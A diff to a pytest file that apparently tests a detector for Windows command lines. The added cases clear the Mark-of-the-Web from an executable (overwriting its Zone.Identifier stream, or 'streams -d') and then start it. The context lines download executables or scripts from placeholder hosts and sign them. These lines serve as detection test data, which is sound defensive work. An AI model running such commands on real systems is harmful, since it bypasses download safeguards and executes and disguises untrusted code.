@@ -33,6 +33,22 @@ def test_files_that_lose_their_quarantine(text: str, found: list[str], scorer: S
 @pytest.mark.parametrize(
     ("line", "found"),
     [
+        ("echo. > C:\\Users\\ann\\Downloads\\a.exe:Zone.Identifier & start C:\\Users\\ann\\Downloads\\a.exe", True),
+        ("streams -d C:\\Users\\Public\\a.exe & C:\\Users\\Public\\a.exe", True),
+        # another file, another place, another stream
+        ("streams -d C:\\Users\\Public\\a.exe & C:\\Users\\Public\\b.exe", False),
+        ("streams -d C:\\tools\\a.exe & C:\\tools\\a.exe", False),
+        ("echo x > C:\\Users\\Public\\a.exe:note & C:\\Users\\Public\\a.exe", False),
+    ],
+)
+def test_a_file_loses_the_mark_of_the_web_and_is_started(line: str, found: bool, scorer: Scorer) -> None:
+    record = {"EventCode": "1", "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": f"cmd /c {line}"}
+    assert ("cleared_and_started" in (scorer.assess(record)["codesign_indicators"] or ())) is found
+
+
+@pytest.mark.parametrize(
+    ("line", "found"),
+    [
         ("curl -o C:\\t\\a.exe http://203.0.113.5/a.exe & signtool sign /a C:\\t\\a.exe", True),
         ("powershell iwr http://203.0.113.5/a.ps1 -OutFile a.ps1; Set-AuthenticodeSignature a.ps1 $c", True),
         ("powershell $w.DownloadFile('http://x.example/a.exe','a.exe'); signtool sign /a a.exe", True),
